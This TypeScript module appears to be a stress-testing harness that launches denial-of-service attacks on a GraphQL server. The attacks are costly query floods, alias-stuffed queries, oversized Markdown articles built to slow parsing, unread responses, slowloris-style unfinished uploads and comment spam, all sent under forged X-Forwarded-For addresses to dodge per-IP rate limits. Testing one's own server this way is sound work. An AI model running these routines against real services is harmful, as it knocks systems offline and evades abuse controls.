import { Agent } from 'node:http';
import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { postFrom, type Sender } from './post-from.ts';
import { type AttackRun, together } from './run.ts';

/** Connections at a time, each of an address of its own. */
const CONNECTIONS = 20;
/** Milliseconds that an attacker waits when it was refused: refusals are not what is measured. */
const AFTER_REFUSAL = 100;
/** Uploads that are begun and not finished. */
const UPLOADS = 300;
const TEXTS = 3_000;
/** Articles that are being saved at a time. */
const SAVES = 2;
const ARTICLE_BYTES = 500_000;

/** Sends queries that cost as much as one may. */
export function askMuch(run: AttackRun): Promise<void> {
  const { expensive } = run.target;
  return together(CONNECTIONS, (attacker) =>
    asSender({ address: `172.20.0.${attacker}` }, async (sender) => {
      for (let n = attacker; run.goesOn(); n++) await post(run, sender, expensive[n % expensive.length]!);
    }),
  );
}

/** Sends documents that are all new, valid and not valid in turn. */
export function sendDistinctTexts(run: AttackRun): Promise<void> {
  let texts = 0;
  return together(CONNECTIONS, (attacker) =>
    asSender({ address: `172.21.0.${attacker}` }, async (sender) => {
      while (run.goesOn() && texts < TEXTS) {
        texts += 1;
        const field = texts % 2 === 0 ? 'title' : 'titel';
        const fields = Array.from({ length: 150 }, (_, i) => `alias${texts}of${i}: ${field}`);
        await post(run, sender, JSON.stringify({ query: `{ article(slug: "article-1") { ${fields.join(' ')} } }` }));
      }
    }),
  );
}

/** Saves articles of the largest size, whose Markdown is slow to convert. */
export function saveLargeArticles(run: AttackRun): Promise<void> {
  const query = `mutation ($input: CreateArticleInput!) { createArticle(input: $input) { __typename } }`;
  const parts = ['http://a.b/((((', '*a **b _c ', '[a](b "c") ', '> - 1. x\n', '`` ` ', '<a href="x">y</b> '];
  const texts = parts.map((part) => part.repeat(ARTICLE_BYTES / part.length));
  let saves = 0;
  return together(SAVES, (attacker) =>
    asSender({ address: `172.22.0.${attacker}`, authorization: run.target.writer }, async (sender) => {
      while (run.goesOn()) {
        saves += 1;
        const input = { title: `Large ${Date.now()} ${saves}`, markdown: texts[saves % texts.length] };
        await post(run, sender, JSON.stringify({ query, variables: { input } }));
      }
    }),
  );
}

/** Asks for large answers and reads none of them. */
export function readNothing(run: AttackRun): Promise<void> {
  const { expensive } = run.target;
  return together(CONNECTIONS, async (attacker) => {
    for (let n = attacker; run.goesOn(); n++) {
      const socket = open(run);
      socket.pause();
      const body = expensive[n % expensive.length]!;
      for (let i = 0; i < 3; i++) socket.write(`${head(`172.23.0.${attacker}`, Buffer.byteLength(body))}${body}`);
      run.count('unread');
      await delay(1_000);
      socket.destroy();
    }
  });
}

/** Begins uploads that go on by some bytes at a time. */
export function leaveUnfinished(run: AttackRun): Promise<void> {
  return together(UPLOADS, async (attacker) => {
    await delay(attacker);
    const socket = open(run);
    socket.write(`${head(`172.24.${attacker % 20}.1`, 900_000)}{"query":"`);
    socket.write('x'.repeat(50_000));
    run.count('unfinished');
    while (run.goesOn() && !socket.destroyed) {
      socket.write('x'.repeat(100));
      await delay(250);
    }
    socket.destroy();
  });
}

/** Sends comments on the target's article, each of a person of its own. */
export async function comment(run: AttackRun, every: number): Promise<void> {
  const query = 'mutation ($input: AddCommentInput!) { addComment(input: $input) { __typename } }';
  for (let n = 0; run.goesOn(); n++) {
    const input = {
      articleId: run.target.articleId,
      body: `Comment ${n}`,
      guest: { name: 'Ann', email: `ann${n}@example.com` },
    };
    await asSender({ address: `172.25.${Math.floor(n / 250)}.${n % 250}` }, (sender) =>
      post(run, sender, JSON.stringify({ query, variables: { input } })),
    );
    await delay(every);
  }
}

async function asSender(
  { address, authorization }: Omit<Sender, 'agent'>,
  work: (sender: Sender) => Promise<void>,
): Promise<void> {
  const agent = new Agent({ keepAlive: true, maxSockets: 1 });
  try {
    await work({ agent, address, ...(authorization !== undefined && { authorization }) });
  } finally {
    agent.destroy();
  }
}

/** Sends a request and counts its outcome: the status, or the code of its first error. */
async function post(run: AttackRun, sender: Sender, body: string): Promise<void> {
  try {
    const { status, text } = await postFrom(sender, run.target.url, body);
    const code = /"code":"([A-Z_]+)"/.exec(text)?.[1] ?? (text.includes('"errors"') ? 'errors' : 'answered');
    run.count(status === 200 ? code : `${status} ${code}`);
    if (status !== 200) await delay(AFTER_REFUSAL);
  } catch {
    run.count('connection failed');
    await delay(AFTER_REFUSAL);
  }
}

function open({ target, count }: AttackRun): Socket {
  const { hostname, port } = new URL(target.url);
  return connect(Number(port), hostname).on('error', () => count('reset'));
}

function head(address: string, length: number): string {
  return `POST /graphql HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\nx-forwarded-for: ${address}\r\ncontent-length: ${length}\r\n\r\n`;
}
